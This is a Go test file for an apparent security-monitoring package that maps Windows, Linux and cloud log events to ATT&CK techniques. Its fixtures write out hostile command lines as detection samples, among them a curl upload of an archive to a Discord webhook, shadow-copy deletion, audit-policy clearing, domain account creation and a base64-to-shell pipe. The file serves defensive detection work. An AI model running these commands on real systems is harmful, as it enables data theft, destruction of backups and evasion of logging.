package investigate

import (
	"strings"
	"testing"
	"time"

	"github.com/seed-959697dd/soc/alert"
)

// The file of meanings and every guide can be read; a guide asks, says what would confirm and what would clear, and names actions.
func TestEmbeddedKnowledge(t *testing.T) {
	t.Parallel()
	if list, err := meanings(); err != nil || len(list) < 100 {
		t.Fatalf("%d meanings, %v", len(list), err)
	}
	list, err := guides()
	if err != nil || len(list) != 12 {
		t.Fatalf("%d guides, %v", len(list), err)
	}
	for _, g := range list {
		if g.Name == "" || g.Title == "" || len(g.Questions) < 3 || len(g.Confirm) == 0 || len(g.Clear) == 0 || len(g.Actions) == 0 || len(g.Applies.Techniques) == 0 {
			t.Errorf("%s wants more: %+v", g.Name, g)
		}
		for _, q := range g.Questions {
			if !strings.HasSuffix(q.Ask, "?") {
				t.Errorf("%s: %q is no question", g.Name, q.Ask)
			}
		}
	}
}

func TestMistakesInKnowledgeAreNamed(t *testing.T) {
	t.Parallel()
	for name, row := range map[string]struct{ meaning, guide, says string }{
		"a kind there is none of":      {meaning: "- {t: T1003, kind: [opening]}", says: `no kind "opening"`},
		"a technique without a phase":  {meaning: "- {t: T9999, command: x}", says: "no phase is known for it"},
		"a condition there is none of": {meaning: "- {t: T1003, colour: red}", says: "colour"},
		"an expression that is none":   {meaning: "- {t: T1003, command: '('}", says: "line 1"},
		"a pivot there is none of":     {guide: "pivots: [moon]", says: `no pivot "moon"`},
		"a question without data":      {guide: "questions: [{ask: 'Why?', says: Thus, needs: logs}]", says: "wants says, data and needs"},
		"a phase there is none of":     {guide: "questions: [{ask: 'Why?', shown: {phases: [dusk]}}]", says: `no phase "dusk"`},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var err error
			if row.meaning != "" {
				_, err = readMeanings([]byte(row.meaning))
			} else {
				_, err = readGuide([]byte(row.guide))
			}
			if err == nil || !strings.Contains(err.Error(), row.says) {
				t.Errorf("error %v, want one with %q", err, row.says)
			}
		})
	}
}

// event is a record of the fields that matter to a row.
func event(code, provider string, fields ...alert.Field) *trace {
	a := &alert.Alert{Fields: []alert.Field{{Slot: alert.SlotEventCode, Value: code}, {Slot: alert.SlotProvider, Value: provider}}}
	a.Fields = append(a.Fields, fields...)
	return traceOf(a)
}

func TestWhatEventsStandFor(t *testing.T) {
	t.Parallel()
	const sysmonLog = "Microsoft-Windows-Sysmon/Operational"
	image, command := alert.EntitySlot(alert.Actor, alert.Process), alert.EntitySlot(alert.Actor, alert.Command)
	registryTarget, fileTarget := alert.EntitySlot(alert.Target, alert.Registry), alert.EntitySlot(alert.Target, alert.File)
	for name, row := range map[string]struct {
		event *trace
		kind  kind
		id    string // a technique that it stands for
		phase string
		not   string
	}{
		"reading the memory of lsass":    {event("10", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: alert.EntitySlot(alert.Target, alert.Process), Value: `C:\Windows\System32\lsass.exe`}, alert.Field{Slot: alert.SlotTargetProcessKey, Value: "{b}"}, alert.Field{Slot: alert.SlotAccess, Value: "0x1010"}), access, "T1003.001", "credential-access", ""},
		"asking lsass how it is":         {event("10", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: alert.EntitySlot(alert.Target, alert.Process), Value: `C:\Windows\System32\lsass.exe`}, alert.Field{Slot: alert.SlotTargetProcessKey, Value: "{b}"}, alert.Field{Slot: alert.SlotAccess, Value: "0x1000"}), access, "", "", "T1003.001"},
		"a task":                         {event("4698", "Security"), task, "T1053.005", "execution", ""},
		"copies of a volume deleted":     {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\vssadmin.exe`}, alert.Field{Slot: command, Value: "vssadmin delete shadows /all"}), start, "T1490", "impact", ""},
		"a connection of such a program": {event("3", sysmonLog, alert.Field{Slot: image, Value: `C:\Windows\System32\cmd.exe`}, alert.Field{Slot: command, Value: "vssadmin delete shadows"}), network, "", "", "T1490"},
		"a file opened from a mail":      {event("1", sysmonLog, alert.Field{Slot: image, Value: `C:\Users\a\Downloads\x.exe`}, alert.Field{Slot: alert.SlotParent, Value: `C:\Windows\explorer.exe`}), start, "T1204.002", "execution", ""},
		"a failed logon":                 {event("4625", "Security"), failed, "T1110", "credential-access", ""},
		"trails turned off":              {event("", "cloudtrail.amazonaws.com", alert.Field{Slot: alert.SlotOperation, Value: "StopLogging"}, alert.Field{Slot: alert.SlotRegion, Value: "eu-central-1"}), call, "T1562.008", "defense-evasion", ""},
		"keys of a storage account":      {event("", "Azure", alert.Field{Slot: alert.SlotOperation, Value: "Microsoft.Storage/storageAccounts/listKeys/action"}, alert.Field{Slot: alert.SlotRegion, Value: "westeurope"}), call, "T1552", "credential-access", ""},
		"a disk that is given away":      {event("", "Azure", alert.Field{Slot: alert.SlotOperation, Value: "Microsoft.Compute/disks/beginGetAccess/action"}, alert.Field{Slot: alert.SlotRegion, Value: "westeurope"}), call, "T1537", "exfiltration", ""},
		"a password filter":              {event("13", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: registryTarget, Value: `HKLM\System\CurrentControlSet\Control\Lsa\Notification Packages`}), registry, "T1556.002", "credential-access", ""},
		"a class of one user":            {event("13", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: registryTarget, Value: `HKU\S-1-5-21-1-2-3-1001_Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\(Default)`}), registry, "T1546.015", "persistence", ""},
		"a class of all users":           {event("13", sysmonLog, alert.Field{Slot: image, Value: `C:\t\x.exe`}, alert.Field{Slot: registryTarget, Value: `HKLM\Software\Classes\CLSID\{b5f8350b-0548-48b1-a6ee-88bd00b4a5e7}\InprocServer32\(Default)`}), registry, "", "", "T1546.015"},
		"sticky keys":                    {event("11", sysmonLog, alert.Field{Slot: image, Value: `C:\Windows\System32\cmd.exe`}, alert.Field{Slot: fileTarget, Value: `C:\Windows\System32\sethc.exe`}), file, "T1546.008", "persistence", ""},
		"an update of the same":          {event("11", sysmonLog, alert.Field{Slot: image, Value: `C:\Windows\System32\svchost.exe`}, alert.Field{Slot: fileTarget, Value: `C:\Windows\System32\sethc.exe`}), file, "", "", "T1546.008"},
		"a program that starts with all": {event("11", sysmonLog, alert.Field{Slot: image, Value: "/usr/bin/vim"}, alert.Field{Slot: fileTarget, Value: "/etc/ld.so.preload"}), file, "T1574.006", "persistence", ""},
		"a message to a chat":            {event("4688", "Security", alert.Field{Slot: image, Value: `C:\t\curl.exe`}, alert.Field{Slot: command, Value: "curl -F file=@a.zip https://discord.com/api/webhooks/1/x"}), start, "T1567.004", "exfiltration", ""},
		"an account of the domain":       {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\net.exe`}, alert.Field{Slot: command, Value: "net user eve Passw0rd! /add /domain"}), start, "T1136.002", "persistence", ""},
		"a time on a clock":              {event("4688", "Security", alert.Field{Slot: image, Value: `C:\t\what.exe`}, alert.Field{Slot: command, Value: "what at 10:30"}), start, "", "", "T1053.002"},
		"rights of the replication":      {event("4662", "Security", alert.Field{Slot: alert.SlotDetails, Value: "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"}), generic, "T1003.006", "credential-access", ""},
		"rights of something else":       {event("4662", "Security", alert.Field{Slot: alert.SlotDetails, Value: "%%7688 {bf967aba-0de6-11d0-a285-00aa003049e2}"}), generic, "", "", "T1003.006"},
		"tasks of another machine":       {event("5145", "Security", alert.Field{Slot: fileTarget, Value: "atsvc"}), share, "T1053.005", "lateral-movement", ""},
		"a service that is a shell":      {event("7045", "System", alert.Field{Slot: alert.EntitySlot(alert.Target, alert.Command), Value: `%COMSPEC% /Q /c echo x`}), service, "T1569.002", "persistence", ""},
		"the audit policy":               {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\auditpol.exe`}, alert.Field{Slot: command, Value: "auditpol /clear /y"}), start, "T1562.002", "defense-evasion", ""},
		"the audit policy looked at":     {event("4688", "Security", alert.Field{Slot: image, Value: `C:\Windows\System32\auditpol.exe`}, alert.Field{Slot: command, Value: "auditpol /get /category:*"}), start, "", "", "T1562.002"},
		"a shell at the logon screen":    {event("1", sysmonLog, alert.Field{Slot: image, Value: `C:\Windows\System32\cmd.exe`}, alert.Field{Slot: alert.SlotParent, Value: `C:\Windows\System32\utilman.exe`}), start, "T1546.008", "persistence", ""},
		"a server that runs text":        {event("1", sysmonLog, alert.Field{Slot: image, Value: "/bin/bash"}, alert.Field{Slot: alert.SlotParent, Value: "/usr/bin/java"}, alert.Field{Slot: command, Value: "bash -c {echo,aWQ=}|{base64,-d}|sh"}), start, "T1190", "persistence", ""},
		"a server that starts a script":  {event("1", sysmonLog, alert.Field{Slot: image, Value: "/bin/bash"}, alert.Field{Slot: alert.SlotParent, Value: "/usr/bin/java"}, alert.Field{Slot: command, Value: "bash /opt/app/rotate.sh"}), start, "", "", "T1190"},
		"a call that ends like it":       {event("", "x", alert.Field{Slot: alert.SlotOperation, Value: "DontStopLogging"}, alert.Field{Slot: alert.SlotRegion, Value: "eu"}), call, "", "", "T1562.008"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			ids, phase := techniquesOf(row.event)
			has := func(id string) bool { return strings.Contains(" "+strings.Join(ids, " ")+" ", " "+id+" ") }
			if row.event.kind != row.kind || row.id != "" && !has(row.id) || row.not != "" && has(row.not) || row.id != "" && phase != row.phase {
				t.Errorf("%s, %v, %q; want %s, %s, %q", row.event.kind, ids, phase, row.kind, row.id, row.phase)
			}
		})
	}
}

// A number that the system gave out again is another process; two records of one start are one.
func TestProcessesWithoutKeys(t *testing.T) {
	t.Parallel()
	at := func(s string) *trace {
		tr := event("4688", "Security", alert.Field{Slot: alert.SlotProcessID, Value: "0x10"}, alert.Field{Slot: alert.EntitySlot(alert.Target, alert.Host), Value: "H1.example.com"}, alert.Field{Slot: alert.EntitySlot(alert.Actor, alert.Process), Value: `C:\a.exe`})
		tr.at = clockAt(t, s)
		return tr
	}
	act := func(s string) *trace {
		tr := event("5156", "Security", alert.Field{Slot: alert.SlotProcessID, Value: "16"}, alert.Field{Slot: alert.EntitySlot(alert.Target, alert.Host), Value: "h1"})
		tr.at = clockAt(t, s)
		return tr
	}
	list := []*trace{act("08:00"), at("09:00"), act("09:30"), at("10:00"), act("10:30")}
	processesOf(list)
	if list[0].actorNode == list[1].actorNode || list[1].actorNode != list[2].actorNode || list[2].actorNode == list[3].actorNode || list[3].actorNode != list[4].actorNode {
		t.Errorf("processes %d %d %d %d %d", list[0].actorNode, list[1].actorNode, list[2].actorNode, list[3].actorNode, list[4].actorNode)
	}
}

func TestStations(t *testing.T) {
	t.Parallel()
	for image, want := range map[string]station{
		`C:\Windows\explorer.exe`: session, `C:\Windows\System32\svchost.exe`: session, `C:\Users\a\svchost.exe`: tool, "/usr/sbin/sshd": session,
		`C:\Windows\System32\inetsrv\w3wp.exe`: server, "/usr/sbin/php-fpm8.2": server, "/usr/bin/python3": tool,
		`C:\Program Files\Google\Chrome\Application\chrome.exe`: desk, `C:\Windows\System32\cmd.exe`: tool, "": tool,
	} {
		if got := stationed(image); got != want {
			t.Errorf("%s is %d, want %d", image, got, want)
		}
	}
}

func clockAt(t *testing.T, s string) time.Time {
	t.Helper()
	at, err := time.Parse("15:04", s)
	if err != nil {
		t.Fatal(err)
	}
	return at.AddDate(2026, 0, 0)
}

// The start of a process that has a key may be told by a log that has none: by number, machine, program and time.
func TestStartWithoutTheKey(t *testing.T) {
	t.Parallel()
	host := alert.Field{Slot: alert.EntitySlot(alert.Target, alert.Host), Value: "u5"}
	image := alert.Field{Slot: alert.EntitySlot(alert.Actor, alert.Process), Value: "/bin/bash"}
	id := alert.Field{Slot: alert.SlotProcessID, Value: "77"}
	told := event("1", "auditd", host, image, id, alert.Field{Slot: alert.SlotParentID, Value: "13"}, alert.Field{Slot: alert.EntitySlot(alert.Actor, alert.Command), Value: "bash -i"})
	told.at = clockAt(t, "09:00")
	acts := event("3", "Sysmon", host, image, id, alert.Field{Slot: alert.SlotProcessKey, Value: "{k}"}, alert.Field{Slot: alert.EntitySlot(alert.Target, alert.IP), Value: "192.0.2.7"})
	acts.at = clockAt(t, "09:01")
	later := event("1", "auditd", host, image, id, alert.Field{Slot: alert.SlotParentID, Value: "14"}, alert.Field{Slot: alert.EntitySlot(alert.Actor, alert.Command), Value: "bash -l"})
	later.at = clockAt(t, "15:00")
	p := processesOf([]*trace{told, acts, later})
	if told.actorNode != acts.actorNode || later.actorNode == acts.actorNode {
		t.Fatalf("processes %d %d %d", told.actorNode, acts.actorNode, later.actorNode)
	}
	if up := p.nodes[acts.actorNode].parent; up < 0 || p.nodes[up].id != "13" {
		t.Errorf("the parent is %d", up)
	}
}

// Every technique that a rule of this package names has a name, and the names are in order, each once.
func TestTechniquesHaveNames(t *testing.T) {
	t.Parallel()
	list, err := meanings()
	if err != nil {
		t.Fatal(err)
	}
	ids := []string{"T1041", "T1048", "T1048.003", "T1105", "T1560"} // of enrich.go and outflow.go
	for _, m := range list {
		ids = append(ids, m.Technique)
	}
	for _, p := range phases() {
		ids = append(ids, strings.Fields(p[1])...)
	}
	names := techniqueNames()
	for _, id := range ids {
		if names[id] == "" && id != "T1685" && id != "T1686" { // of ATT&CK 19: they are placed by their ids, and their names were not at hand
			t.Errorf("%s has no name", id)
		}
	}
	for id := range names {
		if parent, _, _ := strings.Cut(id, "."); names[parent] == "" {
			t.Errorf("%s has a name, and %s has none", id, parent)
		}
	}
	last := ""
	for line := range strings.Lines(techniqueLines) {
		id, name, ok := strings.Cut(strings.TrimSpace(line), " ")
		if !ok || name == "" || id <= last {
			t.Errorf("%q stands behind %s", line, last)
		}
		last = id
	}
}
